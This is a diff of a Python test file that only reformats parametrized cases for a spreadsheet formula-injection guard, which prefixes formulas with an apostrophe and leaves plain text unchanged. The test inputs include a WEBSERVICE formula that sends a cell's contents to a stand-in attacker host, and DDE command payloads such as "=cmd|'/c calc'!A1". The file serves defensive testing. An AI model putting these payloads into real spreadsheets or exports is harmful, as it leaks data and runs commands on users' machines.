@@ -14,18 +14,50 @@ from zhiheng.kernel.formulas import as_delivered, as_text, is_formula
 ROOT = Path(__file__).resolve().parents[2]
 
 
-@pytest.mark.parametrize("text", [
-    '=WEBSERVICE("http://evil.example/"&F2)', "=cmd|'/c calc'!A1", "=1+1", "+cmd|x!A1", "-2+cmd|x!A1", "@SUM(A1:A9)", "\t=1", "\r=1", "\n=1",
-    "  =1+1", "＝1+1", "-A1", "+86 138", "-1-2", "+HYPERLINK(B2)", "@王", "=",
-])  # fmt: skip
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=WEBSERVICE("http://evil.example/"&F2)',
+        "=cmd|'/c calc'!A1",
+        "=1+1",
+        "+cmd|x!A1",
+        "-2+cmd|x!A1",
+        "@SUM(A1:A9)",
+        "\t=1",
+        "\r=1",
+        "\n=1",
+        "  =1+1",
+        "＝1+1",
+        "-A1",
+        "+86 138",
+        "-1-2",
+        "+HYPERLINK(B2)",
+        "@王",
+        "=",
+    ],
+)
 def test_会被当作公式的_前面加撇号(text: str) -> None:
     assert is_formula(text)
     assert as_text(text) == f"'{text}"
 
 
-@pytest.mark.parametrize("text", [
-    "", "云澜示例机械有限公司", "-5", "-12.50", "-3.5E+2", "1=1", "a@b.example", "2026-03-01", "'=1", "-", "——", "10%",
-])  # fmt: skip
+@pytest.mark.parametrize(
+    "text",
+    [
+        "",
+        "云澜示例机械有限公司",
+        "-5",
+        "-12.50",
+        "-3.5E+2",
+        "1=1",
+        "a@b.example",
+        "2026-03-01",
+        "'=1",
+        "-",
+        "——",
+        "10%",
+    ],
+)
 def test_老实的内容一字不动(text: str) -> None:
     assert as_text(text) == text
 
